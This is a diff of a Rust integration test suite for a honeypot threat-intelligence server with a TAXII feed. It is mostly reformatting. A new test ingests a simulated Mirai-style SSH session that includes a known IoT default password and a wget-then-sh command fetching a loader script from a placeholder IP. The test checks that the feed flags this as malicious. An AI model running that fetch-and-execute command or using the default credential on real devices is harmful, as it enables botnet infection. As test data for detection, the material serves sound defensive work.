@@ -35,14 +35,27 @@ async fn harness(options: SqliteOptions) -> Harness {
     store.insert_key(record).await.unwrap();
     let (sensor, record) = keys::generate(KeyRole::Sensor, "free", "sensor").unwrap();
     store.insert_key(record).await.unwrap();
-    let central = Central::start(Arc::new(store.clone()), Arc::new(CountsOnly), CentralConfig::default())
-        .await
-        .unwrap();
-    Harness { _dir: dir, central, store, key, sensor }
+    let central = Central::start(
+        Arc::new(store.clone()),
+        Arc::new(CountsOnly),
+        CentralConfig::default(),
+    )
+    .await
+    .unwrap();
+    Harness {
+        _dir: dir,
+        central,
+        store,
+        key,
+        sensor,
+    }
 }
 
 fn fast() -> SqliteOptions {
-    SqliteOptions { durable: false, ..SqliteOptions::default() }
+    SqliteOptions {
+        durable: false,
+        ..SqliteOptions::default()
+    }
 }
 
 struct Reply {
@@ -53,12 +66,23 @@ struct Reply {
 
 impl Harness {
     async fn send(&self, req: Request<Body>) -> Reply {
-        let resp = sikker_server::service(self.central.clone()).oneshot(req).await.unwrap();
+        let resp = sikker_server::service(self.central.clone())
+            .oneshot(req)
+            .await
+            .unwrap();
         let status = resp.status();
         let headers = resp.headers().clone();
         let bytes = resp.into_body().collect().await.unwrap().to_bytes();
-        let body = if bytes.is_empty() { Value::Null } else { serde_json::from_slice(&bytes).unwrap() };
-        Reply { status, headers, body }
+        let body = if bytes.is_empty() {
+            Value::Null
+        } else {
+            serde_json::from_slice(&bytes).unwrap()
+        };
+        Reply {
+            status,
+            headers,
+            body,
+        }
     }
 
     async fn get(&self, uri: &str) -> Reply {
@@ -115,8 +139,15 @@ fn session(ip: &str, protocol: Protocol) -> Vec<Event> {
             key_fingerprint: None,
             success: true,
         }),
-        EventData::Command { line: "uname -a".into() },
-        EventData::Disconnect(Disconnect { reason: "closed".into(), duration_ms: 3, bytes_in: 9, bytes_out: 90 }),
+        EventData::Command {
+            line: "uname -a".into(),
+        },
+        EventData::Disconnect(Disconnect {
+            reason: "closed".into(),
+            duration_ms: 3,
+            bytes_in: 9,
+            bytes_out: 90,
+        }),
     ]
     .into_iter()
     .map(|d| Event::new("test", s, protocol, ip, 41000, protocol.standard_port(), d))
@@ -153,9 +184,14 @@ async fn same_batch_twice_leaves_the_store_unchanged() {
         .await;
     assert_eq!(r.body["stored"].as_array().unwrap().len(), 3);
     assert_eq!(r.body["rejected"][0]["index"], 1);
-    assert!(r.body["rejected"][0]["reason"].as_str().unwrap().contains("gopher"));
+    assert!(r.body["rejected"][0]["reason"]
+        .as_str()
+        .unwrap()
+        .contains("gopher"));
     // Wrong credentials.
-    let r = h.send(Request::post("/v1/ingest").body(Body::from("[]")).unwrap()).await;
+    let r = h
+        .send(Request::post("/v1/ingest").body(Body::from("[]")).unwrap())
+        .await;
     assert_eq!(r.status, 401);
     let r = h
         .send(
@@ -171,14 +207,19 @@ async fn same_batch_twice_leaves_the_store_unchanged() {
 #[tokio::test]
 async fn cursor_walk_stays_complete_while_new_versions_arrive() {
     let h = harness(fast()).await;
-    let ips: Vec<String> = (0..240).map(|i| format!("192.0.2.{}", i % 240 + 1)).collect();
+    let ips: Vec<String> = (0..240)
+        .map(|i| format!("192.0.2.{}", i % 240 + 1))
+        .collect();
     let mut batch = Vec::new();
     for ip in &ips {
         batch.extend(session(ip, Protocol::Ssh));
     }
     h.ingest(&batch).await;
     let start = h.walk(1000, async |_| {}).await;
-    let start_ids: HashSet<String> = start.iter().map(|o| o["id"].as_str().unwrap().to_owned()).collect();
+    let start_ids: HashSet<String> = start
+        .iter()
+        .map(|o| o["id"].as_str().unwrap().to_owned())
+        .collect();
     assert_eq!(start_ids.len(), 242);
 
     // While walking, give some walked and some not-yet-walked IPs new versions, and add new IPs.
@@ -193,15 +234,28 @@ async fn cursor_walk_stays_complete_while_new_versions_arrive() {
         })
         .await;
     assert!(round > 5);
-    let seen: HashSet<String> = walked.iter().map(|o| o["id"].as_str().unwrap().to_owned()).collect();
-    assert!(start_ids.is_subset(&seen), "an object present at the start was skipped");
+    let seen: HashSet<String> = walked
+        .iter()
+        .map(|o| o["id"].as_str().unwrap().to_owned())
+        .collect();
+    assert!(
+        start_ids.is_subset(&seen),
+        "an object present at the start was skipped"
+    );
     // Never the same version twice; versions of one object arrive oldest first.
     let mut versions: HashMap<String, Vec<String>> = HashMap::new();
     for o in &walked {
         let id = o["id"].as_str().unwrap().to_owned();
-        let modified = o["modified"].as_str().or(o["created"].as_str()).unwrap().to_owned();
+        let modified = o["modified"]
+            .as_str()
+            .or(o["created"].as_str())
+            .unwrap()
+            .to_owned();
         let list = versions.entry(id).or_default();
-        assert!(list.last().is_none_or(|m| *m < modified), "{list:?} then {modified}");
+        assert!(
+            list.last().is_none_or(|m| *m < modified),
+            "{list:?} then {modified}"
+        );
         list.push(modified);
     }
 }
@@ -209,19 +263,29 @@ async fn cursor_walk_stays_complete_while_new_versions_arrive() {
 #[tokio::test]
 async fn ipv6_indicators_and_lookup_by_address() {
     let h = harness(fast()).await;
-    h.ingest(&session("2001:0DB8:0000:0000:0000:0000:0000:00AB", Protocol::Ssh)).await;
-    h.ingest(&session("::ffff:198.51.100.77", Protocol::Ssh)).await;
+    h.ingest(&session(
+        "2001:0DB8:0000:0000:0000:0000:0000:00AB",
+        Protocol::Ssh,
+    ))
+    .await;
+    h.ingest(&session("::ffff:198.51.100.77", Protocol::Ssh))
+        .await;
     let r = h.get(&format!("{OBJECTS}2001:db8::ab/")).await;
     assert_eq!(r.status, 200, "{}", r.body);
     let o = &r.body["objects"][0];
     assert_eq!(o["pattern"], "[ipv6-addr:value = '2001:db8::ab']");
-    let by_id = h.get(&format!("{OBJECTS}{}/", o["id"].as_str().unwrap())).await;
+    let by_id = h
+        .get(&format!("{OBJECTS}{}/", o["id"].as_str().unwrap()))
+        .await;
     assert_eq!(by_id.body, r.body);
     let expanded = h.get(&format!("{OBJECTS}2001:db8:0:0:0:0:0:ab")).await;
     assert_eq!(expanded.body["objects"][0]["id"], o["id"]);
     // IPv4-mapped addresses are the IPv4 indicator.
     let mapped = h.get(&format!("{OBJECTS}198.51.100.77/")).await;
-    assert_eq!(mapped.body["objects"][0]["pattern"], "[ipv4-addr:value = '198.51.100.77']");
+    assert_eq!(
+        mapped.body["objects"][0]["pattern"],
+        "[ipv4-addr:value = '198.51.100.77']"
+    );
     assert_eq!(h.get(&format!("{OBJECTS}2001:db8::ac/")).await.status, 404);
     assert_eq!(h.get(&format!("{OBJECTS}not-an-id/")).await.status, 404);
     let versions = h.get(&format!("{OBJECTS}2001:db8::ab/versions/")).await;
@@ -254,8 +318,14 @@ async fn equal_timestamps_never_straddle_a_page() {
     loop {
         let r = h.get(&uri).await;
         let objs = r.body["objects"].as_array().unwrap().clone();
-        let first = r.headers["x-taxii-date-added-first"].to_str().unwrap().to_owned();
-        let last = r.headers["x-taxii-date-added-last"].to_str().unwrap().to_owned();
+        let first = r.headers["x-taxii-date-added-first"]
+            .to_str()
+            .unwrap()
+            .to_owned();
+        let last = r.headers["x-taxii-date-added-last"]
+            .to_str()
+            .unwrap()
+            .to_owned();
         pages.push((objs.len(), first, last));
         if r.body["more"] != json!(true) {
             break;
@@ -266,47 +336,82 @@ async fn equal_timestamps_never_straddle_a_page() {
     // Page one may not end inside the 4-group: it stops after the first group of 3.
     assert_eq!(sizes, vec![5, 4, 3], "{pages:?}");
     // Resuming with added_after = the last header value of a page loses nothing.
-    let r = h.get(&format!("{OBJECTS}?added_after={}", pages[0].2)).await;
+    let r = h
+        .get(&format!("{OBJECTS}?added_after={}", pages[0].2))
+        .await;
     assert_eq!(r.body["objects"].as_array().unwrap().len(), 7);
 }
 
 #[tokio::test]
 async fn status_codes_and_media_type_everywhere() {
     let h = harness(fast()).await;
-    let plain = |method: &str, uri: &str| Request::builder().method(method).uri(uri).body(Body::empty()).unwrap();
+    let plain = |method: &str, uri: &str| {
+        Request::builder()
+            .method(method)
+            .uri(uri)
+            .body(Body::empty())
+            .unwrap()
+    };
     let cases: Vec<(Request<Body>, u16)> = vec![
         (plain("GET", "/taxii2/"), 200),
         (plain("GET", "/taxii2"), 200),
         (plain("GET", "/taxii2/collections"), 200),
-        (plain("GET", "/taxii2/collections/07e4891b-3647-45de-b49f-138bff69d0ab/"), 200),
+        (
+            plain(
+                "GET",
+                "/taxii2/collections/07e4891b-3647-45de-b49f-138bff69d0ab/",
+            ),
+            200,
+        ),
         (plain("GET", "/taxii2/collections/nope/"), 404),
         (plain("GET", OBJECTS), 401),
-        (plain("GET", "/taxii2/collections/sikker-threat-intel/manifest"), 401),
+        (
+            plain("GET", "/taxii2/collections/sikker-threat-intel/manifest"),
+            401,
+        ),
         (plain("GET", "/taxii2/status/1234/"), 401),
         (plain("PUT", "/taxii2/"), 405),
         (plain("GET", "/elsewhere"), 404),
         (
-            Request::get("/taxii2/").header(header::ACCEPT, "application/taxii+json;version=2.0").body(Body::empty()).unwrap(),
+            Request::get("/taxii2/")
+                .header(header::ACCEPT, "application/taxii+json;version=2.0")
+                .body(Body::empty())
+                .unwrap(),
             406,
         ),
         (
-            Request::get(OBJECTS).header(header::AUTHORIZATION, "Bearer sk_free_wrong").body(Body::empty()).unwrap(),
+            Request::get(OBJECTS)
+                .header(header::AUTHORIZATION, "Bearer sk_free_wrong")
+                .body(Body::empty())
+                .unwrap(),
             401,
         ),
         (
-            Request::get(OBJECTS).header(header::AUTHORIZATION, format!("Bearer {}", h.sensor)).body(Body::empty()).unwrap(),
+            Request::get(OBJECTS)
+                .header(header::AUTHORIZATION, format!("Bearer {}", h.sensor))
+                .body(Body::empty())
+                .unwrap(),
             403,
         ),
         (
-            Request::post(OBJECTS).header("x-api-key", h.key.clone()).body(Body::from("{}")).unwrap(),
+            Request::post(OBJECTS)
+                .header("x-api-key", h.key.clone())
+                .body(Body::from("{}"))
+                .unwrap(),
             403,
         ),
         (
-            Request::get(format!("{OBJECTS}?limit=0")).header("x-api-key", h.key.clone()).body(Body::empty()).unwrap(),
+            Request::get(format!("{OBJECTS}?limit=0"))
+                .header("x-api-key", h.key.clone())
+                .body(Body::empty())
+                .unwrap(),
             400,
         ),
         (
-            Request::get("/taxii2/status/1234/").header("x-api-key", h.key.clone()).body(Body::empty()).unwrap(),
+            Request::get("/taxii2/status/1234/")
+                .header("x-api-key", h.key.clone())
+                .body(Body::empty())
+                .unwrap(),
             404,
         ),
     ];
@@ -320,7 +425,86 @@ async fn status_codes_and_media_type_everywhere() {
             assert!(r.body["title"].is_string(), "{what}");
         }
         if want == 401 {
-            assert!(r.headers[header::WWW_AUTHENTICATE].to_str().unwrap().starts_with("Basic"), "{what}");
+            assert!(
+                r.headers[header::WWW_AUTHENTICATE]
+                    .to_str()
+                    .unwrap()
+                    .starts_with("Basic"),
+                "{what}"
+            );
         }
     }
+}
+
+#[tokio::test]
+async fn an_ingested_session_shows_its_behavior_in_the_feed() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = SqliteStore::open(dir.path(), fast()).unwrap();
+    let (key, record) = keys::generate(KeyRole::Api, "free", "t").unwrap();
+    store.insert_key(record).await.unwrap();
+    let (sensor, record) = keys::generate(KeyRole::Sensor, "free", "s").unwrap();
+    store.insert_key(record).await.unwrap();
+    let analyst = sikker_server::analyst::EngineAnalyst::new(
+        sikker_engine::Engine::builtin(),
+        sikker_engine::BenignList::builtin(),
+    );
+    let central = Central::start(
+        Arc::new(store.clone()),
+        Arc::new(analyst),
+        CentralConfig::default(),
+    )
+    .await
+    .unwrap();
+    let h = Harness {
+        _dir: dir,
+        central,
+        store,
+        key,
+        sensor,
+    };
+
+    // A Mirai-style loader session over SSH.
+    let ip: IpAddr = "203.0.113.66".parse().unwrap();
+    let s = Uuid::now_v7();
+    let events: Vec<Event> = [
+        EventData::Connect,
+        EventData::Auth(Auth {
+            method: AuthMethod::Password,
+            username: "root".into(),
+            password: Some("xc3511".into()),
+            key_type: None,
+            key_fingerprint: None,
+            success: true,
+        }),
+        EventData::Command {
+            line: "cd /tmp || cd /var/run; wget http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh".into(),
+        },
+        EventData::Disconnect(Disconnect { reason: "closed".into(), duration_ms: 900, bytes_in: 90, bytes_out: 300 }),
+    ]
+    .into_iter()
+    .map(|d| Event::new("test", s, Protocol::Ssh, ip, 40100, 22, d))
+    .collect();
+    assert_eq!(h.ingest(&events).await.status, 200);
+    let r = h.get(&format!("{OBJECTS}203.0.113.66/")).await;
+    assert_eq!(r.status, 200, "{}", r.body);
+    let o = &r.body["objects"][0];
+    let labels = o["labels"].as_array().expect("labels from the behavior");
+    assert!(!labels.is_empty());
+    assert!(o["confidence"].as_u64().unwrap() > 0, "{o}");
+    assert_eq!(o["indicator_types"][0], "malicious-activity", "{o}");
+    let phases = o["kill_chain_phases"].as_array().expect("ATT&CK phases");
+    assert!(phases
+        .iter()
+        .all(|p| p["kill_chain_name"] == "mitre-attack"));
+    let techniques: Vec<&str> = o["external_references"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|r| r["source_name"] == "mitre-attack")
+        .map(|r| r["external_id"].as_str().unwrap())
+        .collect();
+    assert!(
+        techniques.contains(&"T1105"),
+        "ingress tool transfer in {techniques:?}"
+    );
 }
